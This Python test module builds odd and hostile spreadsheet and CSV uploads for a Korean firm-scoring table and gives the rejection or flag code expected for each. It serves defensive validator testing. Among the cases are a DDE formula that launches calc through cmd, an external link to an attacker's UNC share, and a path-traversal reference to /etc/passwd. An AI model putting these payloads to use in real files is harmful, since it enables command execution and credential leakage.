"""Odd sheets and texts that pass the door: what must be read of each, and what must be named.

The table in all of them: 50 firms in rows 2 to 51, columns 업체, T1, T2, T3. `Odd.bad` are the rows
that must be listed; every other row is read whole.
"""

from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape

from tests.workbooks import hostile
from tests.workbooks.hostile import MAIN, workbook

ROWS = range(2, 52)
HEADERS = ("업체", "T1", "T2", "T3")
GOOD = {row: (f"업체{row}", row % 3, (row + 1) % 3, (row + 2) % 3) for row in ROWS}


@dataclass(frozen=True)
class Odd:
    """`refused` is the code where the whole file is refused; `codes` those of the listed cells."""

    content: Callable[[], bytes] | bytes
    bad: tuple[int, ...] = ()
    refused: str = ""
    codes: tuple[str, ...] = ()
    name: str = "a.xlsx"


def text(place: str, said: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t xml:space="preserve">{escape(said)}</t></is></c>'


def number(place: str, said: object, more: str = "") -> str:
    return f'<c r="{place}"{more}><v>{said}</v></c>'


def cells(row: int, headers: tuple[str, ...] = HEADERS) -> dict[str, str]:
    """Column letter to the markup of the cell."""
    if row == 1:
        return {"ABCD"[n]: text(f"{'ABCD'[n]}1", said) for n, said in enumerate(headers)}
    firm, *points = GOOD[row]
    made = {"A": text(f"A{row}", str(firm))}
    return made | {"BCD"[n]: number(f"{'BCD'[n]}{row}", said) for n, said in enumerate(points)}


def rows(changed: dict[str, str] | None = None, headers: tuple[str, ...] = HEADERS) -> str:
    """All rows as markup; `changed` gives the markup of single cells by their place."""
    changed = changed or {}
    made = []
    for row in (1, *ROWS):
        held = {letter: changed.get(f"{letter}{row}", one)
                for letter, one in cells(row, headers).items()}  # fmt: skip
        made.append(f'<row r="{row}">{"".join(held.values())}</row>')
    return "".join(made)


def sheet(inner: str, before: str = "", after: str = "") -> str:
    return f'<worksheet xmlns="{MAIN}">{before}<sheetData>{inner}</sheetData>{after}</worksheet>'


def book(changed: dict[str, str] | None = None, **frame: str) -> bytes:
    return workbook(sheet=sheet(rows(changed), **frame))


def with_row(markup: str) -> bytes:
    return workbook(sheet=sheet(rows() + markup))


def formula(place: str, said: str, cached: str = "", more: str = "") -> str:
    value = f"<v>{cached}</v>" if cached else ""
    return f'<c r="{place}"><f{more}>{escape(said)}</f>{value}</c>'


def error(place: str, said: str) -> str:
    return number(place, said, ' t="e"')


def plain(inner: str = "") -> str:
    return sheet(inner or rows())


def csv(encoding: str, separator: str = ",", end: str = "\n", mark: bytes = b"") -> bytes:
    lines = [HEADERS, *((str(cell) for cell in GOOD[row]) for row in ROWS)]
    said = end.join(separator.join(line) for line in lines) + end
    return mark + said.replace("업체7", "똠펲" if encoding == "cp949" else "업체7").encode(encoding)


def mixed(first: str, second: str) -> bytes:
    """Two files one after the other: the second encoding begins in line 11."""
    lines = csv("utf-8").split(b"\n")
    head, tail = b"\n".join(lines[:10]).decode(), b"\n".join(lines[10:]).decode()
    return (head + "\n").encode(first) + tail.encode(second)


DEEP = "<a>" * 200_000 + "</a>" * 200_000
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRAY = text("XFD1048576", " ")
EMPTY_ROWS = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(52, 300_052))
SHARED = '<c r="B5" t="s"><v>{}</v></c>'
LINKED = "'\\\\attacker\\share\\[x.xlsx]S'!A1"
RAGGED = '업체,T1\n가,1\n"나 ""x""\n다",1,9\n라\n마,2\n바,"1\n'.encode()

READ: dict[str, Odd] = {
    "plain": Odd(book()),
    "huge_dimension": Odd(book(before='<dimension ref="A1:XFD1048576"/>')),
    "tiny_dimension": Odd(book(before='<dimension ref="A1:A1"/>')),
    "last_cell_used": Odd(with_row(f'<row r="1048576">{STRAY}</row>')),
    "million_empty_rows": Odd(lambda: with_row(EMPTY_ROWS)),
    "lying_unique_count": Odd(workbook(
        sheet=plain(), strings=f'<sst xmlns="{MAIN}" uniqueCount="4000000000"/>')),
    "no_cell_refs": Odd(workbook(sheet=sheet("".join(
        "<row>" + "".join(cells(row).values()).replace(f'{row}"', '"').replace(' r="A"', "")
        .replace(' r="B"', "").replace(' r="C"', "").replace(' r="D"', "") + "</row>"
        for row in (1, *ROWS))))),
    "strict_namespace": Odd(workbook(sheet=plain().replace(MAIN, STRICT),
                                     workbook=hostile.WORKBOOK.replace(MAIN, STRICT))),
    "prefixed_markup": Odd(workbook(sheet=plain().replace("<", "<x:").replace("<x:/", "</x:")
                                    .replace("xmlns=", "xmlns:x="))),
    "utf16_markup": Odd(workbook(sheet=plain().encode("utf-16"))),
    "comments_and_cdata": Odd(book({"A3": '<c r="A3" t="inlineStr"><is><t><![CDATA[업체3]]></t>'
                                          "</is></c><!-- <row> -->"})),
    "bad_shared_string_index": Odd(book({"B5": SHARED.format(999999)}),
                                   refused="upload_unreadable"),
    "negative_string_index": Odd(book({"B5": SHARED.format(-1)}), refused="upload_unreadable"),
    "deep_nesting": Odd(lambda: workbook(sheet=DEEP), refused="upload_unreadable"),
    "deep_nesting_of_styles": Odd(lambda: workbook(styles=DEEP), refused="upload_unreadable"),
    "broken_markup": Odd(workbook(sheet=plain()[:-40]), refused="upload_unreadable"),
    "two_tables_in_a_sheet": Odd(workbook(sheet=plain().replace(
        "</sheetData>", "</sheetData><sheetData/>")), refused="upload_unreadable"),
    "table_in_an_extension": Odd(book(after='<extLst><x:sheetData xmlns:x="x"/></extLst>'),
                                 refused="upload_unreadable"),
    "text_and_value_in_a_cell": Odd(book({"B5": '<c r="B5" t="inlineStr"><v>1</v><is><t>2</t></is>'
                                                "</c>"}), refused="upload_unreadable"),
    "text_in_a_number": Odd(book({"B5": '<c r="B5"><is><t>2</t></is></c>'}),
                            refused="upload_unreadable"),
    "row_in_wide_digits": Odd(with_row('<row r="６０"><c r="A60"><v>1</v></c></row>'),
                              refused="upload_unreadable"),
    "sheet_elsewhere": Odd(workbook(sheet=plain(), links=hostile.relations().replace(
        "worksheets/sheet1.xml", "../../etc/passwd")), refused="upload_unreadable"),
    "many_names": Odd(lambda: workbook(sheet=plain(), workbook=hostile.WORKBOOK.replace(
        "</workbook>", "<definedNames>" + "".join(f'<definedName name="n{n}">A1</definedName>'
                                                  for n in range(250_000))
        + "</definedNames></workbook>"))),
    "dates_in_words": Odd(book({"B2": number("B2", "2026-11-22T10:00:00Z", ' t="d"'),
                                "B3": number("B3", "22.11.2026", ' t="d"')}), (2, 3),
                          codes=("answers_bad_cell", "cell_unreadable")),
    "end_of_all_days": Odd(workbook(
        sheet=sheet(rows({"B2": number("B2", 2958465.9999999, ' s="1"')})),
        styles=f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/>'
               "</cellXfs></styleSheet>"), (2,), codes=("answers_bad_cell",)),
    "latin1_lies": Odd(workbook(sheet=b'<?xml version="1.0" encoding="utf-8"?>' + plain().encode(
        "cp949")), refused="upload_unreadable"),
    "cell_beyond_the_sheet": Odd(with_row('<row r="60"><c r="XFE60"><v>1</v></c></row>'),
                                 refused="upload_unreadable"),
    "row_beyond_the_sheet": Odd(with_row('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
                                refused="upload_unreadable"),
    "cell_of_another_row": Odd(book({"B5": number("B6", 1)}), refused="upload_unreadable"),
    "cell_twice": Odd(book({"B5": number("B5", 1) + number("B5", 2)}),
                      refused="upload_cell_twice"),
    "row_twice": Odd(with_row('<row r="5"><c r="B5"><v>2</v></c></row>'),
                     refused="upload_cell_twice"),
    "two_values_in_a_cell": Odd(book({"B5": '<c r="B5"><v>1</v><v>2</v></c>'}),
                                refused="upload_unreadable"),
    "no_such_type": Odd(book({"B5": number("B5", 1, ' t="zz"')}), refused="upload_unreadable"),
    "external_link": Odd(book({"B2": formula("B2", LINKED, "3")}), (2,), codes=("cell_formula",)),
    "dde_formula": Odd(book({"D2": formula("D2", "cmd|'/C calc'!A0", "0")}), (2,),
                       codes=("cell_formula",)),
    "formulas_without_cache": Odd(book({"B2": formula("B2", "1+2"), "B3": formula("B3", "2")}),
                                  (2, 3), codes=("cell_formula",)),
    "formula_with_stale_cache": Odd(book({"B2": formula("B2", "1+1", "5")}), (2,),
                                    codes=("cell_formula",)),
    "formula_over_an_area": Odd(book({"B2": formula("B2", "A2:A4", "1",
                                                    ' t="array" ref="B2:B4"')}),
                                (2, 3, 4), codes=("cell_formula",)),
    "shared_formula": Odd(book({"B2": formula("B2", "1", "1", ' t="shared" ref="B2:B3" si="0"'),
                                "B3": '<c r="B3"><f t="shared" si="0"/><v>1</v></c>'}),
                          (2, 3), codes=("cell_formula",)),
    "error_cells": Odd(book({"B2": error("B2", "#N/A"), "C3": error("C3", "#REF!"),
                             "D4": error("D4", "#DIV/0!")}), (2, 3, 4), codes=("cell_error",)),
    "not_a_number": Odd(book({"B2": number("B2", "nan"), "B3": number("B3", "1e999"),
                              "B4": number("B4", "1_0"), "B5": number("B5", "0x1")}),
                        (2, 3, 4, 5), codes=("cell_unreadable",)),
    "scores_out_of_range": Odd(book({"B2": number("B2", 6), "B3": number("B3", -1),
                                     "B4": number("B4", 3.5), "B5": number("B5", 1e308),
                                     "B6": number("B6", 1, ' t="b"'), "B7": number("B7", 45292)}),
                               (2, 3, 4, 5, 6, 7), codes=("answers_bad_cell",)),
    "scores_as_text": Odd(book({"B2": text("B2", "2점"), "B3": text("B3", " 1 "),
                                "B4": text("B4", "１"), "B5": text("B5", "해당없음")}), (2,),
                          codes=("answers_bad_cell",)),
    "score_became_date": Odd(workbook(
        sheet=sheet(rows({"B2": number("B2", 46085, ' s="1"')})),
        styles=f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/>'
               "</cellXfs></styleSheet>"), (2,), codes=("answers_bad_cell",)),
    "very_long_text": Odd(book({"D3": text("D3", "가" * 100_000)}), (3,),
                          codes=("cell_too_long",)),
    "merged_answer_cells": Odd(
        book({"B3": '<c r="B3"/>', "B4": '<c r="B4"/>'},
             after='<mergeCells count="1"><mergeCell ref="B2:B4"/></mergeCells>'),
        (3, 4), codes=("cell_merged",)),
    "merge_of_everything": Odd(
        book(after='<mergeCells><mergeCell ref="E1:XFD1048576"/></mergeCells>')),
    "hidden_and_filtered_rows": Odd(workbook(sheet=sheet(
        rows().replace('<row r="5">', '<row r="5" hidden="1">'),
        '<cols><col min="3" max="3" hidden="1"/></cols>'))),
    "duplicate_headers": Odd(workbook(sheet=sheet(rows(headers=("업체", "T1", "T 1", "T3")))),
                             refused="table"),
    "header_variants": Odd(workbook(sheet=sheet(rows(
        headers=("\u1109\u1161\u11bc\u1112\u1169", "T\u00a01 ", "t\n2", "Ｔ３"))))),
    "missing_columns": Odd(workbook(sheet=sheet(rows(headers=("업체", "X", "Y", "Z")))),
                           refused="answers_no_items"),
    "duplicate_firm": Odd(book({"A9": text("A9", "업체8")}), (9,), codes=("answers_twice",)),
    "cp949.csv": Odd(csv("cp949"), name="a.csv"),
    "euckr.csv": Odd(csv("euc-kr"), name="a.csv"),
    "utf8_bom.csv": Odd(csv("utf-8-sig"), name="a.csv"),
    "utf16_tab.csv": Odd(csv("utf-16-le", "\t", mark=b"\xff\xfe"), name="a.csv"),
    "utf16_big_end.csv": Odd(csv("utf-16-be", "\t", mark=b"\xfe\xff"), name="a.csv"),
    "utf16_without_mark.csv": Odd(csv("utf-16-le", "\t"), name="a.csv"),
    "semicolon_cr_only.csv": Odd(csv("utf-8", ";", "\r"), name="a.csv"),
    "separator_named.csv": Odd(csv("utf-8", ";", mark=b"sep=;\n"), name="a.csv",),
    "end_of_dos_file.csv": Odd(csv("cp949") + b"\x1a", name="a.csv"),
    "mark_twice.csv": Odd(csv("utf-8-sig", mark=b"\xef\xbb\xbf"), name="a.csv"),
    "very_many_columns.csv": Odd(b"a" + b",a" * 100_000 + b"\n", name="a.csv",
                                 refused="upload_many_cells"),
    "mixed_encoding.csv": Odd(mixed("cp949", "utf-8"), name="a.csv", refused="upload_encoding"),
    "mixed_otherwise.csv": Odd(mixed("utf-8", "cp949"), name="a.csv", refused="upload_encoding"),
    "nul_in_utf16.csv": Odd("업체,T1\n가,\x001\n".encode("utf-16"), name="a.csv",
                            refused="upload_nul"),
}  # fmt: skip
"""Name to the odd file."""
